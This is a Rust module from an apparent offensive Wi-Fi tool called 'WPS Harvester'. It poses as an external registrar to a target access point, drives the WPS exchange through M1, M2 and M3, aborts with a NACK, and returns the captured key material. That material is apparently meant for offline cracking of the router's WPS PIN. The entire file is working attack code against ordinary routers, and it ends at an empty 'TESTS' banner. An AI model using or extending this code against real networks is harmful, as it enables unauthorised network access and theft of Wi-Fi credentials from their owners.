//! # WPS Harvester
//!
//! Runs one registration exchange against one access point, acting as an external
//! registrar, and stops as soon as the enrollee has committed to its PIN in M3:
//!
//! ```text
//! IDLE → ASSOCIATING → EAPOL_START → AWAIT_M1 → SENT_M2 → AWAIT_M3 → COMPLETE
//!                                                                  ↘ TIMEOUT | REJECTED | ERROR
//! ```
//!
//! Every wait is bounded. Whatever happens, the link is torn down before returning,
//! and a failure only ever concerns this one target.

use chrono::Utc;
use harvestr_common::config::Timeouts;
use harvestr_common::error::HarvestTransactionError;
use harvestr_common::models::ap::ApRecord;
use harvestr_common::models::crypto::WpsCryptoMaterial;
use harvestr_common::models::harvest::HarvestState;
use harvestr_common::network::mac::Bssid;
use harvestr_protocols::eapol::WscOp;
use harvestr_protocols::wps::WpsError;
use harvestr_protocols::wps::message::{self, CONFIG_ERROR_SETUP_LOCKED, msg_type};
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;
use tracing::debug;

pub mod link;
pub mod monitor;
pub mod registrar;

pub use link::{LinkError, LinkEvent, WpsLink};
pub use monitor::MonitorLink;
pub use registrar::{Registrar, Session};

/// Tracks the current state and stamps it on any failure.
struct Transaction {
    bssid: Bssid,
    state: HarvestState,
}

impl Transaction {
    fn enter(&mut self, next: HarvestState) {
        debug!(bssid = %self.bssid, "{} -> {}", self.state, next);
        self.state = next;
    }

    fn timeout(&self) -> HarvestTransactionError {
        HarvestTransactionError::Timeout { state: self.state }
    }

    fn rejected(&self, reason: impl Into<String>) -> HarvestTransactionError {
        HarvestTransactionError::Rejected {
            state: self.state,
            reason: reason.into(),
        }
    }

    fn error(&self, reason: impl ToString) -> HarvestTransactionError {
        HarvestTransactionError::Error {
            state: self.state,
            reason: reason.to_string(),
        }
    }
}

#[derive(Debug, Clone, Copy)]
pub struct Harvester {
    timeouts: Timeouts,
}

impl Harvester {
    pub fn new(timeouts: Timeouts) -> Self {
        Self { timeouts }
    }

    /// Runs the exchange against `target` over `link`.
    ///
    /// Returns the captured material on COMPLETE. Cancelling `cancel` turns any wait
    /// into an ERROR right away.
    pub async fn run(
        &self,
        link: &mut dyn WpsLink,
        target: &ApRecord,
        cancel: &CancellationToken,
    ) -> Result<WpsCryptoMaterial, HarvestTransactionError> {
        let mut tx = Transaction {
            bssid: target.bssid,
            state: HarvestState::Idle,
        };

        let result = self.exchange(link, target, cancel, &mut tx).await;
        link.disconnect().await;

        match &result {
            Ok(_) => tx.enter(HarvestState::Complete),
            Err(e) => tx.enter(e.terminal()),
        }
        result
    }

    async fn exchange(
        &self,
        link: &mut dyn WpsLink,
        target: &ApRecord,
        cancel: &CancellationToken,
        tx: &mut Transaction,
    ) -> Result<WpsCryptoMaterial, HarvestTransactionError> {
        tx.enter(HarvestState::Associating);
        let limit = self.timeouts.associate;
        let associated = tokio::select! {
            biased;
            _ = cancel.cancelled() => return Err(tx.error("cancelled")),
            result = tokio::time::timeout(limit, link.associate(target, limit)) => result,
        };
        match associated {
            Ok(Ok(())) => {}
            Ok(Err(e)) => return Err(tx.error(e)),
            Err(_) => return Err(tx.error(format!("not associated within {limit:?}"))),
        }

        tx.enter(HarvestState::EapolStart);
        link.send_eapol_start().await.map_err(|e| tx.error(e))?;

        tx.enter(HarvestState::AwaitM1);
        let registrar = Registrar::new();
        let deadline = Instant::now() + self.timeouts.m1;
        let (session, m2, m1_id) = loop {
            match next_event(link, cancel, tx, deadline).await? {
                LinkEvent::Wsc {
                    id,
                    op: WscOp::Msg,
                    body,
                } => match message::message_type(&body) {
                    Ok(msg_type::M1) => match registrar.respond(&body) {
                        Ok((session, m2)) => break (session, m2, id),
                        Err(e) => debug!(bssid = %tx.bssid, "ignoring unusable M1: {e}"),
                    },
                    Ok(msg_type::NACK) => return Err(tx.rejected(nack_reason(&body))),
                    Ok(other) => debug!(bssid = %tx.bssid, "ignoring message type {other:#04x} in {}", tx.state),
                    Err(e) => debug!(bssid = %tx.bssid, "ignoring undecodable WSC message: {e}"),
                },
                other => handle_common(link, tx, other).await?,
            }
        };

        tx.enter(HarvestState::SentM2);
        link.send_wsc(m1_id, WscOp::Msg, &m2).await.map_err(|e| tx.error(e))?;

        tx.enter(HarvestState::AwaitM3);
        let deadline = Instant::now() + self.timeouts.m3;
        let (m3, m3_id) = loop {
            match next_event(link, cancel, tx, deadline).await? {
                LinkEvent::Wsc {
                    id,
                    op: WscOp::Msg,
                    body,
                } => match message::message_type(&body) {
                    Ok(msg_type::M3) => match session.accept_m3(&body) {
                        Ok(m3) => break (m3, id),
                        Err(WpsError::BadAuthenticator) => {
                            return Err(tx.error("M3 authenticator does not verify"));
                        }
                        Err(e) => debug!(bssid = %tx.bssid, "ignoring invalid M3: {e}"),
                    },
                    Ok(msg_type::NACK) => return Err(tx.rejected(nack_reason(&body))),
                    Ok(other) => debug!(bssid = %tx.bssid, "ignoring message type {other:#04x} in {}", tx.state),
                    Err(e) => debug!(bssid = %tx.bssid, "ignoring undecodable WSC message: {e}"),
                },
                other => handle_common(link, tx, other).await?,
            }
        };

        // The enrollee would wait for M4 otherwise.
        if let Err(e) = link.send_wsc(m3_id, WscOp::Nack, &session.nack()).await {
            debug!(bssid = %tx.bssid, "closing NACK not sent: {e}");
        }

        Ok(WpsCryptoMaterial::new(target.bssid, session.transcript(&m3), Utc::now()))
    }
}

async fn next_event(
    link: &mut dyn WpsLink,
    cancel: &CancellationToken,
    tx: &Transaction,
    deadline: Instant,
) -> Result<LinkEvent, HarvestTransactionError> {
    tokio::select! {
        biased;
        _ = cancel.cancelled() => Err(tx.error("cancelled")),
        _ = tokio::time::sleep_until(deadline) => Err(tx.timeout()),
        event = link.recv() => event.map_err(|e| tx.error(e)),
    }
}

/// Events every await state treats the same way.
async fn handle_common(
    link: &mut dyn WpsLink,
    tx: &Transaction,
    event: LinkEvent,
) -> Result<(), HarvestTransactionError> {
    match event {
        LinkEvent::IdentityRequest { id } => link.send_identity(id).await.map_err(|e| tx.error(e)),
        LinkEvent::WscStart { .. } => {
            debug!(bssid = %tx.bssid, "AP sent WSC_Start, still waiting in {}", tx.state);
            Ok(())
        }
        LinkEvent::Wsc {
            op: WscOp::Nack,
            body,
            ..
        } => Err(tx.rejected(nack_reason(&body))),
        LinkEvent::Wsc { op, .. } => {
            debug!(bssid = %tx.bssid, "ignoring WSC {op:?} in {}", tx.state);
            Ok(())
        }
        LinkEvent::EapFailure => Err(tx.rejected("EAP-Failure")),
        LinkEvent::Deauthenticated { reason } => {
            Err(tx.error(format!("deauthenticated by AP (reason {reason})")))
        }
    }
}

fn nack_reason(body: &[u8]) -> String {
    match message::parse_nack(body) {
        Ok(CONFIG_ERROR_SETUP_LOCKED) => {
            format!("NACK, config error {CONFIG_ERROR_SETUP_LOCKED} (setup locked)")
        }
        Ok(code) => format!("NACK, config error {code}"),
        Err(_) => "NACK".to_string(),
    }
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
